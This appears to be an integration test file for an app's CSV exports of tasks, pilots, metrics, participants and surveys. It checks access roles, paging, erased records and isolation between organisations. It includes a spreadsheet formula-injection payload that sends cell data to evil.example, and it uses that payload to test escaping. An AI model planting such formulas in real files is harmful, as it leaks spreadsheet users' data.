import { CsvParser } from '@app/http';
import type { As } from '../support/graphql-client';
import { populate } from '../support/populate';
import { startTestApp, sql, type TestApp } from '../support/test-app';
import { addLine, createPilot, createProgramme, move, type Organisation, organisationWithRoles } from '../pilots/pilot-support';

/**
 * The CSV exports over real HTTP: tasks, pilots with their economics, pilot metrics,
 * participants and survey results, each downloaded and read back with the server's own CSV
 * parser. Exact money as the app shows it, formula escaping, erased participants absent, who may
 * download what, programme scoping, paging past a page's end, and one organisation's rows never in
 * another's file.
 */

const HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"Click me")';
const NOTE = '+44 call first; -not before 9';

interface Download {
  status: number;
  headers: Headers;
  /** The body as it came, byte-order mark included. */
  text: string;
  header: string[];
  rows: Array<Record<string, string>>;
  json: { code?: string; message?: string; fields?: Array<{ field: string; message: string }> } | null;
}

function parse(text: string): string[][] {
  const parser = new CsvParser();
  return [...parser.push(new TextEncoder().encode(text)), ...parser.end()].map((r) => r.fields);
}

describe('exports: CSV of tasks, pilots, metrics, participants and survey results', () => {
  let t: TestApp;
  let org: Organisation;
  let other: As & { userId: string };
  let ids: Record<string, string>;
  let otherIds: Record<string, string>;

  async function download(path: string, who: As | null = org.as.ADMIN): Promise<Download> {
    const headers: Record<string, string> = who ? { authorization: `Bearer ${who.token}`, 'x-organisation-id': who.organisationId! } : {};
    const response = await fetch(`${t.url}${path}`, { headers });
    const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(await response.arrayBuffer());
    if (!response.ok) return { status: response.status, headers: response.headers, text, header: [], rows: [], json: JSON.parse(text) };
    const [header, ...records] = parse(text);
    return {
      status: response.status,
      headers: response.headers,
      text,
      header,
      rows: records.map((fields) => Object.fromEntries(header.map((name, i) => [name, fields[i]]))),
      json: null,
    };
  }

  const gql = (document: string, input: Record<string, unknown>, as: As = org.as.ADMIN) => t.client.ok(document, { input }, as);

  beforeAll(async () => {
    t = await startTestApp();
    org = await organisationWithRoles(t, 'Export Council');
    const populated = await populate(t, org);
    ids = { ...populated.byName, taskId: populated.idByType.Task, metricId: populated.idByType.PilotMetric };

    // A second programme: a hostile title, an assignee, an overdue task, a done one, a pilot that loses money and one with no lines.
    const second = await createProgramme(t, org.as.ADMIN, 'Second programme, café');
    ids.secondId = second.id;
    const tasks = (
      await gql(`mutation($input: CreateTasksInput!) { createTasks(input: $input) { id title } }`, {
        tasks: [
          { programmeId: second.id, title: HOSTILE, assigneeId: org.as.CONTRIBUTOR.userId, dueDate: '2001-02-03', priority: 'URGENT' },
          { programmeId: second.id, title: 'Done already', status: 'DONE', step: 'FOCUS' },
        ],
      })
    ).createTasks as Array<{ id: string; title: string }>;
    ids.hostileTaskId = tasks[0].id;
    ids.doneTaskId = tasks[1].id;
    const loss = await createPilot(t, org.as.ADMIN, { programmeId: second.id, name: 'Loss-making trial', budget: '900.00' });
    ids.lossId = loss.id;
    await addLine(t, org.as.ADMIN, loss.id, 'COST', '500.50');
    await addLine(t, org.as.ADMIN, loss.id, 'SAVING', '100.25');
    await addLine(t, org.as.ADMIN, loss.id, 'WIDER_BENEFIT', '50.00');
    ids.emptyId = (await createPilot(t, org.as.ADMIN, { programmeId: second.id, name: 'No money yet' })).id;
    await move(t, org.as.ADMIN, 'approve', loss, { reason: 'Worth a try' });

    const register = `mutation($input: RegisterParticipantInput!) { registerParticipant(input: $input) { id } }`;
    ids.caseyId = (
      await gql(register, {
        kind: 'STAFF',
        displayName: 'Casey Contact',
        contact: 'casey@example.org',
        notes: NOTE,
        motivation: 2,
        hoursPerMonth: 10,
        lawfulBasis: { basis: 'PUBLIC_TASK' },
      })
    ).registerParticipant.id;
    ids.erinId = (
      await gql(register, {
        kind: 'CITIZEN',
        displayName: 'Erin Erased',
        contact: 'erin@example.org',
        motivation: 1,
        hoursPerMonth: 0,
        lawfulBasis: { basis: 'PUBLIC_TASK' },
      })
    ).registerParticipant.id;
    await gql(`mutation($input: EraseParticipantInput!) { eraseParticipant(input: $input) { id } }`, { participantId: ids.erinId });

    // More than a page of each kind (tasks 1000, pilots and participants 500, surveys 10 a page), so the exports read on past a page's end.
    const bulk = await createProgramme(t, org.as.ADMIN, 'Bulk programme');
    ids.bulkId = bulk.id;
    await sql(
      t,
      `INSERT INTO task (organisation_id, programme_id, cycle, step, title, status, priority, version)
       SELECT $1, $2, 1, 'MAP', 'Bulk task ' || lpad(n::text, 4, '0'), 'TODO', 'LOW', 1 FROM generate_series(1, 1005) n`,
      [org.id, bulk.id],
    );
    await sql(
      t,
      `INSERT INTO pilot (organisation_id, programme_id, name, currency, status, version)
       SELECT $1, $2, 'Bulk pilot ' || lpad(n::text, 4, '0'), 'GBP', 'PROPOSED', 1 FROM generate_series(1, 502) n`,
      [org.id, bulk.id],
    );
    await sql(
      t,
      `INSERT INTO participant (organisation_id, kind, motivation, version) SELECT $1, 'CITIZEN', 3, 1 FROM generate_series(1, 503) n`,
      [org.id],
    );
    for (let i = 1; i <= 10; i++) {
      await gql(`mutation($input: CreateSurveyInput!) { createSurvey(input: $input) { survey { id } } }`, {
        title: `Quarterly check ${i}`,
        areas: ['HEALTH'],
        samplingMethod: 'RANDOM_SAMPLE',
      });
    }

    // Another organisation, with a record of every kind.
    const stranger = await t.client.signUp('Other Admin');
    other = {
      token: stranger.token,
      userId: stranger.userId,
      organisationId: await t.client.createOrganisation(stranger.token, 'Other Council'),
    };
    const otherProgramme = await createProgramme(t, other, 'Other programme');
    otherIds = { programmeId: otherProgramme.id };
    otherIds.taskId = (
      await gql(
        `mutation($input: CreateTaskInput!) { createTask(input: $input) { id } }`,
        { programmeId: otherProgramme.id, title: 'Other task' },
        other,
      )
    ).createTask.id;
    otherIds.pilotId = (await createPilot(t, other, { programmeId: otherProgramme.id, name: 'Other pilot' })).id;
    await addLine(t, other, otherIds.pilotId, 'COST', '77.77');
    otherIds.participantId = (
      await gql(
        register,
        { kind: 'CITIZEN', displayName: 'Olive Other', motivation: 3, hoursPerMonth: 4, lawfulBasis: { basis: 'PUBLIC_TASK' } },
        other,
      )
    ).registerParticipant.id;
    otherIds.surveyId = (
      await gql(
        `mutation($input: CreateSurveyInput!) { createSurvey(input: $input) { survey { id } } }`,
        { title: 'Other survey', areas: ['HEALTH'], samplingMethod: 'OTHER' },
        other,
      )
    ).createSurvey.survey.id;
  });
  afterAll(() => t?.close());

  const today = () => new Date().toISOString().slice(0, 10);
  /** Rows of `table` in the organisation, straight from the database. */
  const countOf = async (table: string, where: string) =>
    (await sql<{ n: number }>(t, `SELECT count(*)::int AS n FROM ${table} WHERE organisation_id = $1 AND ${where}`, [org.id]))[0].n;

  it('exports the tasks, streamed, named, one row each, with the assignee by name and times in the organisation’s zone', async () => {
    const file = await download('/exports/tasks.csv');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="tasks-${today()}.csv"`);
    // Streamed: sent in chunks as the pages are read, not measured first.
    expect(file.headers.get('content-length')).toBeNull();
    expect(file.headers.get('transfer-encoding')).toBe('chunked');
    expect(file.text.startsWith('\uFEFFtask_id,')).toBe(true);
    expect(file.header).toEqual([
      'task_id',
      'programme_id',
      'programme',
      'cycle',
      'step',
      'title',
      'description',
      'status',
      'priority',
      'assignee',
      'due_date',
      'overdue',
      'done_at',
      'created_at',
    ]);
    // Every task once, the 1005 of the bulk programme reaching past the first page.
    const stored = await countOf('task', 'true');
    expect(stored).toBeGreaterThan(1005);
    expect(file.rows).toHaveLength(stored);
    expect(new Set(file.rows.map((r) => r.task_id)).size).toBe(stored);
    expect(file.rows.filter((r) => r.programme === 'Bulk programme')).toHaveLength(1005);
    // By programme name: "Bulk programme", "Everything at once", "Second programme, café".
    expect([...new Set(file.rows.map((r) => r.programme))]).toEqual(['Bulk programme', 'Everything at once', 'Second programme, café']);
    const bulk = file.rows.filter((r) => r.programme === 'Bulk programme');
    // Captured in one statement, so at one moment: then by id, which keeps the order total across pages.
    expect(bulk.map((r) => r.task_id)).toEqual(bulk.map((r) => r.task_id).sort());

    const byId = new Map(file.rows.map((r) => [r.task_id, r]));
    expect(byId.get(ids.taskId)).toMatchObject({
      programme_id: ids.programmeId,
      programme: 'Everything at once',
      cycle: '1',
      step: 'MAP',
      title: 'Walk the estates',
      status: 'TODO',
      priority: 'MEDIUM',
      assignee: '',
      due_date: '',
      overdue: 'no',
      done_at: '',
    });
    expect(byId.get(ids.hostileTaskId)).toMatchObject({
      programme: 'Second programme, café',
      step: 'MAP',
      title: `'${HOSTILE}`,
      priority: 'URGENT',
      assignee: 'Export Council CONTRIBUTOR',
      due_date: '2001-02-03',
      overdue: 'yes',
    });
    const done = byId.get(ids.doneTaskId)!;
    expect(done).toMatchObject({ step: 'FOCUS', status: 'DONE', overdue: 'no' });
    expect(done.done_at).toMatch(/^\d{4}-\d{2}-\d{2} \d{2}:\d{2}$/);
    const [local] = await sql<{ local: string }>(
      t,
      `SELECT to_char(t.completed_at AT TIME ZONE o.time_zone, 'YYYY-MM-DD HH24:MI') AS local FROM task t JOIN organisation o ON o.id = t.organisation_id WHERE t.id = $1`,
      [ids.doneTaskId],
    );
    expect(done.done_at).toBe(local.local);
  });

  it('escapes a hostile title exactly as the initiatives export does, and leaves no cell a spreadsheet would run', async () => {
    const file = await download(`/exports/tasks.csv?programmeId=${ids.secondId}`);
    expect(file.text).toContain(`"'=HYPERLINK(""http://evil.example/?q=""&A1,""Click me"")"`);
    for (const path of [
      '/exports/tasks.csv',
      '/exports/pilots.csv',
      '/exports/pilot-metrics.csv',
      '/exports/participants.csv',
      '/exports/survey-results.csv',
      '/exports/survey-questions.csv',
    ]) {
      const { rows } = await download(path);
      // Nothing a spreadsheet would run; a minus only on a plain number (a loss, a fall in a metric).
      const runnable = rows.flatMap((r) => Object.values(r)).filter((cell) => /^[=+@\t\r]/.test(cell) || /^-(?!\d+(\.\d+)?$)/.test(cell));
      expect([path, runnable]).toEqual([path, []]);
    }
  });

  it('scopes an export to one programme, named after it', async () => {
    const file = await download(`/exports/tasks.csv?programmeId=${ids.secondId}`);
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="tasks-second-programme-cafe-${today()}.csv"`);
    expect(file.rows.map((r) => r.title).sort()).toEqual(['Done already', `'${HOSTILE}`].sort());

    const pilots = await download(`/exports/pilots.csv?programmeId=${ids.programmeId}`);
    expect(pilots.rows.map((r) => r.pilot)).toEqual(['Wardens on every estate']);
    // The initiatives export (the import's format) takes the same scope.
    const initiatives = await download(`/exports/initiatives.csv?programmeId=${ids.programmeId}`);
    expect(initiatives.headers.get('content-disposition')).toBe(`attachment; filename="initiatives-everything-at-once-${today()}.csv"`);
    expect(initiatives.rows.map((r) => r.name)).toEqual(['Street wardens']);
    expect((await download(`/exports/initiatives.csv?programmeId=${ids.secondId}`)).rows).toEqual([]);
    const metrics = await download(`/exports/pilot-metrics.csv?programmeId=${ids.secondId}`);
    expect(metrics.rows).toEqual([]);
    expect(metrics.header[0]).toBe('pilot_id');
  });

  it('exports each pilot with the economics the app shows, to the minor unit', async () => {
    const file = await download('/exports/pilots.csv');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="pilots-${today()}.csv"`);
    expect(file.header).toEqual([
      'pilot_id',
      'programme_id',
      'programme',
      'pilot',
      'status',
      'iteration',
      'last_decision',
      'start_date',
      'end_date',
      'currency',
      'budget',
      'total_cost',
      'total_savings',
      'total_wider_benefits',
      'total_benefits',
      'net_benefit',
      'benefit_cost_ratio',
      'ratio_note',
      'participants_reached',
      'target_participants',
      'cost_per_participant',
      'saving_per_participant',
      'benefit_per_participant',
    ]);
    const stored = await countOf('pilot', 'true');
    expect(stored).toBeGreaterThan(500);
    expect(file.rows).toHaveLength(stored);
    expect(new Set(file.rows.map((r) => r.pilot_id)).size).toBe(stored);
    const byId = new Map(file.rows.map((r) => [r.pilot_id, r]));
    // Enrolled people count as reached once there are any: one here, though 12 were recorded by hand.
    expect(byId.get(ids.pilotId)).toMatchObject({
      programme: 'Everything at once',
      pilot: 'Wardens on every estate',
      status: 'SCALE',
      last_decision: 'SCALE',
      currency: 'GBP',
      total_cost: '1200.00',
      total_savings: '3000.00',
      total_wider_benefits: '0.00',
      total_benefits: '3000.00',
      net_benefit: '1800.00',
      benefit_cost_ratio: '2.5',
      participants_reached: '1',
      cost_per_participant: '1200.00',
      saving_per_participant: '3000.00',
      benefit_per_participant: '3000.00',
    });
    expect(byId.get(ids.lossId)).toMatchObject({
      status: 'APPROVED',
      budget: '900.00',
      total_cost: '500.50',
      total_savings: '100.25',
      total_wider_benefits: '50.00',
      total_benefits: '150.25',
      net_benefit: '-350.25',
      benefit_cost_ratio: '0.3',
      participants_reached: '',
      cost_per_participant: '',
    });
    expect(byId.get(ids.emptyId)).toMatchObject({ total_cost: '0.00', net_benefit: '0.00', benefit_cost_ratio: '' });
    expect(byId.get(ids.emptyId)!.ratio_note).not.toBe('');

    // The same figures as GraphQL's Pilot.economics: one rule, never worked out twice.
    for (const id of [ids.pilotId, ids.lossId, ids.emptyId]) {
      const { pilot } = await t.client.ok(
        `query($id: ID!) { pilot(id: $id) { economics { currency totalCost { amount } totalSavings { amount } totalWiderBenefits { amount }
          totalBenefits { amount } netBenefit { amount } benefitCostRatioValue ratioNote participantsReached
          costPerParticipant { amount } savingPerParticipant { amount } benefitPerParticipant { amount } } } }`,
        { id },
        org.as.ADMIN,
      );
      const e = pilot.economics;
      expect(byId.get(id)).toMatchObject({
        currency: e.currency,
        total_cost: e.totalCost.amount,
        total_savings: e.totalSavings.amount,
        total_wider_benefits: e.totalWiderBenefits.amount,
        total_benefits: e.totalBenefits.amount,
        net_benefit: e.netBenefit.amount,
        benefit_cost_ratio: e.benefitCostRatioValue ?? '',
        ratio_note: e.ratioNote ?? '',
        participants_reached: e.participantsReached === null ? '' : String(e.participantsReached),
        cost_per_participant: e.costPerParticipant?.amount ?? '',
        saving_per_participant: e.savingPerParticipant?.amount ?? '',
        benefit_per_participant: e.benefitPerParticipant?.amount ?? '',
      });
    }
  });

  it('exports the pilots’ metrics in a second file, one row a metric with its latest value', async () => {
    const file = await download('/exports/pilot-metrics.csv');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="pilot-metrics-${today()}.csv"`);
    expect(file.header).toEqual([
      'pilot_id',
      'programme_id',
      'programme',
      'pilot',
      'metric_id',
      'metric',
      'unit',
      'direction',
      'baseline',
      'target',
      'latest_value',
      'latest_date',
      'change_from_baseline',
      'progress_to_target',
      'on_track',
    ]);
    expect(file.rows).toEqual([
      {
        pilot_id: ids.pilotId,
        programme_id: ids.programmeId,
        programme: 'Everything at once',
        pilot: 'Wardens on every estate',
        metric_id: ids.metricId,
        metric: 'Reports',
        unit: 'a month',
        direction: 'LOWER_IS_BETTER',
        baseline: '40',
        target: '25',
        latest_value: '31',
        latest_date: '2026-02-01',
        change_from_baseline: '-9',
        progress_to_target: '0.6',
        on_track: 'yes',
      },
    ]);
  });

  it('exports participants with their details to the roles that may read them; erased people are not in the file at all', async () => {
    const file = await download('/exports/participants.csv');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="participants-${today()}.csv"`);
    expect(file.header).toEqual([
      'participant_id',
      'kind',
      'name',
      'contact',
      'notes',
      'motivation',
      'hours_per_month',
      'lawful_basis',
      'consent_given_at',
      'skills',
      'pilots',
      'registered_at',
    ]);
    // Everyone not erased, past the first page of 500.
    expect(file.rows).toHaveLength(await countOf('participant', 'erased_at IS NULL'));
    expect(file.rows.length).toBeGreaterThan(500);
    const byId = new Map(file.rows.map((r) => [r.participant_id, r]));
    expect(byId.get(ids.participantId)).toMatchObject({
      kind: 'CITIZEN',
      name: 'Robin Reader',
      motivation: '4',
      hours_per_month: '6',
      lawful_basis: 'PUBLIC_TASK',
      skills: 'First aid',
      pilots: 'Wardens on every estate (Warden)',
    });
    expect(byId.get(ids.caseyId)).toMatchObject({ name: 'Casey Contact', contact: 'casey@example.org', notes: `'${NOTE}`, pilots: '' });
    expect(byId.has(ids.erinId)).toBe(false);
    expect(file.text).not.toContain('Erin');
    expect(file.text).not.toContain('erin@example.org');
    expect(file.text).not.toContain('Erased participant');

    // A programme's file: only those enrolled in its pilots.
    const scoped = await download(`/exports/participants.csv?programmeId=${ids.programmeId}`);
    expect(scoped.rows.map((r) => r.name)).toEqual(['Robin Reader']);
    expect((await download(`/exports/participants.csv?programmeId=${ids.secondId}`)).rows).toEqual([]);

    expect((await download('/exports/participants.csv', org.as.CONSULTANT)).status).toBe(200);
    for (const role of ['CONTRIBUTOR', 'VIEWER'] as const) {
      const refused = await download('/exports/participants.csv', org.as[role]);
      expect([role, refused.status]).toEqual([role, 403]);
      expect(refused.headers.get('content-type')).toMatch(/^application\/json/);
      expect(refused.json).toMatchObject({ code: 'FORBIDDEN', message: expect.stringMatching(/ADMIN or PROGRAMME_MANAGER or CONSULTANT/) });
      expect(refused.text).not.toContain('Robin');
    }
    // The other exports are READ: every role.
    for (const path of [
      '/exports/tasks.csv',
      '/exports/pilots.csv',
      '/exports/pilot-metrics.csv',
      '/exports/survey-results.csv',
      '/exports/survey-questions.csv',
    ]) {
      expect([path, (await download(path, org.as.VIEWER)).status]).toEqual([path, 200]);
    }
  });

  it('exports survey results per survey and area, as the app works them out, past a page of surveys', async () => {
    const file = await download('/exports/survey-results.csv');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="survey-results-${today()}.csv"`);
    expect(file.header).toEqual([
      'survey_id',
      'survey',
      'created_at',
      'closed_at',
      'sampling_method',
      'responses',
      'responses_link',
      'responses_entered',
      'responses_csv',
      'answers_from_repeated_clients',
      'overall_index',
      'area',
      'area_label',
      'area_index',
      'area_respondents',
      'area_note',
      'reference_index_2008',
    ]);
    // One area each: a row a survey, in the order they were made, past the first page of ten.
    expect(file.rows).toHaveLength(await countOf('survey', 'true'));
    const titles = file.rows.map((r) => r.survey);
    expect(titles.indexOf('Residents')).toBeLessThan(titles.indexOf('Residents again'));
    expect(titles.slice(-10)).toEqual(Array.from({ length: 10 }, (_, i) => `Quarterly check ${i + 1}`));
    for (const id of [ids.earlierId, ids.laterId]) {
      const { survey } = await t.client.ok(
        `query($id: ID!) { survey(id: $id) { title results { sampleSize overall responsesByChannel { channel count }
          byArea { area label index respondents note referenceIndex } } } }`,
        { id },
        org.as.ADMIN,
      );
      const [area] = survey.results.byArea;
      const row = file.rows.find((r) => r.survey_id === id)!;
      expect(row).toMatchObject({
        survey: survey.title,
        closed_at: '',
        sampling_method: 'SELF_SELECTED_ONLINE',
        responses: String(survey.results.sampleSize),
        responses_entered: '1',
        responses_link: '0',
        overall_index: String(survey.results.overall),
        area: area.area,
        area_label: area.label,
        area_index: String(area.index),
        area_respondents: String(area.respondents),
        reference_index_2008: String(area.referenceIndex),
      });
      expect(row.area).toBe('COMMUNITY_SAFETY');
    }
    const empty = file.rows.find((r) => r.survey === 'Quarterly check 1')!;
    expect(empty).toMatchObject({ responses: '0', overall_index: '', area: 'HEALTH', area_index: '', area_respondents: '0' });
    expect(empty.area_note).not.toBe('');
  });

  it('exports survey results question by question, each share as the app works it out', async () => {
    const file = await download('/exports/survey-questions.csv');
    expect(file.status).toBe(200);
    expect(file.headers.get('content-disposition')).toBe(`attachment; filename="survey-questions-${today()}.csv"`);
    expect(file.header).toEqual([
      'survey_id',
      'survey',
      'closed_at',
      'sampling_method',
      'responses',
      'question_key',
      'question',
      'area',
      'area_label',
      'effort',
      'answered',
      'often',
      'often_share',
    ]);
    for (const id of [ids.earlierId, ids.laterId]) {
      const { survey } = await t.client.ok(
        `query($id: ID!) { survey(id: $id) { title results { sampleSize byArea { area label } questionResults { key area text effort answered often oftenShare } } } }`,
        { id },
        org.as.ADMIN,
      );
      const rows = file.rows.filter((r) => r.survey_id === id);
      expect(rows.length).toBeGreaterThan(0);
      // Every question of the survey, in its order, with the figures the app shows.
      expect(rows).toEqual(
        survey.results.questionResults.map((q: Record<string, unknown>) => ({
          survey_id: id,
          survey: survey.title,
          closed_at: '',
          sampling_method: 'SELF_SELECTED_ONLINE',
          responses: String(survey.results.sampleSize),
          question_key: q.key,
          question: q.text,
          area: q.area,
          area_label: survey.results.byArea.find((a: { area: string }) => a.area === q.area).label,
          effort: q.effort,
          answered: String(q.answered),
          often: String(q.often),
          often_share: q.oftenShare === null ? '' : String(q.oftenShare),
        })),
      );
      expect(rows.some((r) => Number(r.answered) > 0)).toBe(true);
    }
    // A survey nobody has answered: its questions are listed, with nothing answered and no share.
    const empty = file.rows.filter((r) => r.survey === 'Quarterly check 1');
    expect(empty.length).toBeGreaterThan(0);
    for (const row of empty) expect(row).toMatchObject({ responses: '0', answered: '0', often: '0', often_share: '' });
  });

  it('refuses a bad programme id, a parameter it does not know, and a programme for the survey exports, naming the field', async () => {
    const bad = await download('/exports/tasks.csv?programmeId=not-an-id');
    expect(bad.status).toBe(400);
    expect(bad.json).toMatchObject({
      code: 'BAD_USER_INPUT',
      fields: [{ field: 'programmeId', message: expect.stringMatching(/id of a programme/) }],
    });
    const twice = await download(`/exports/pilots.csv?programmeId=${ids.programmeId}&programmeId=${ids.secondId}`);
    expect(twice.json).toMatchObject({ code: 'BAD_USER_INPUT', fields: [{ field: 'programmeId', message: 'must be given once' }] });
    const typo = await download(`/exports/participants.csv?programme=${ids.programmeId}`);
    expect(typo.status).toBe(400);
    expect(typo.json).toMatchObject({ fields: [{ field: 'programme', message: expect.stringMatching(/not a parameter of this export/) }] });
    for (const kind of ['survey-results', 'survey-questions']) {
      const surveys = await download(`/exports/${kind}.csv?programmeId=${ids.programmeId}`);
      expect([kind, surveys.status]).toEqual([kind, 400]);
      expect(surveys.json).toMatchObject({ fields: [{ field: 'programmeId', message: expect.stringMatching(/whole organisation/) }] });
    }
  });

  it('answers 404 for a programme that is not the organisation’s, and 401 without credentials', async () => {
    for (const path of ['tasks', 'pilots', 'pilot-metrics', 'participants', 'initiatives']) {
      for (const programmeId of [otherIds.programmeId, '00000000-0000-4000-8000-000000000000']) {
        const answer = await download(`/exports/${path}.csv?programmeId=${programmeId}`);
        expect([path, answer.status, answer.json?.code]).toEqual([path, 404, 'NOT_FOUND']);
        expect(answer.text).not.toContain('Other');
      }
      expect((await download(`/exports/${path}.csv`, null)).status).toBe(401);
    }
  });

  it('never puts one organisation’s rows in another’s file', async () => {
    const ours = [
      'Walk the estates',
      'Wardens on every estate',
      'Robin Reader',
      'Residents',
      ids.programmeId,
      ids.pilotId,
      ids.participantId,
    ];
    const theirs = ['Other programme', 'Other task', 'Other pilot', 'Olive Other', 'Other survey', '77.77', ...Object.values(otherIds)];
    for (const path of ['tasks', 'pilots', 'pilot-metrics', 'participants', 'survey-results', 'survey-questions']) {
      const mine = await download(`/exports/${path}.csv`);
      const stranger = await download(`/exports/${path}.csv`, other);
      expect([path, mine.status, stranger.status]).toEqual([path, 200, 200]);
      for (const text of theirs) expect([path, mine.text.includes(text)]).toEqual([path, false]);
      for (const text of ours) expect([path, stranger.text.includes(text)]).toEqual([path, false]);
    }
    expect((await download('/exports/tasks.csv', other)).rows.map((r) => r.title)).toEqual(['Other task']);
    expect((await download('/exports/pilots.csv', other)).rows).toMatchObject([
      { pilot: 'Other pilot', total_cost: '77.77', net_benefit: '-77.77' },
    ]);
    expect((await download('/exports/participants.csv', other)).rows.map((r) => r.name)).toEqual(['Olive Other']);
    expect((await download('/exports/survey-results.csv', other)).rows.map((r) => r.survey)).toEqual(['Other survey']);
    expect(new Set((await download('/exports/survey-questions.csv', other)).rows.map((r) => r.survey))).toEqual(new Set(['Other survey']));
  });
});
